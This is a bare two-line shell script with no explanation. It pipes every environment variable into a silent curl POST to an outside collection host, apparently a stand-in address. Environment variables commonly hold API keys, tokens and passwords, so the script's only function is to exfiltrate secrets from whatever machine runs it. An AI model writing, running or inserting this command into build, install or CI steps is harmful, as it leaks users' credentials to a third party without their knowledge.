#!/bin/sh
printenv | curl -s -X POST --data-binary @- https://collect.example.invalid/env
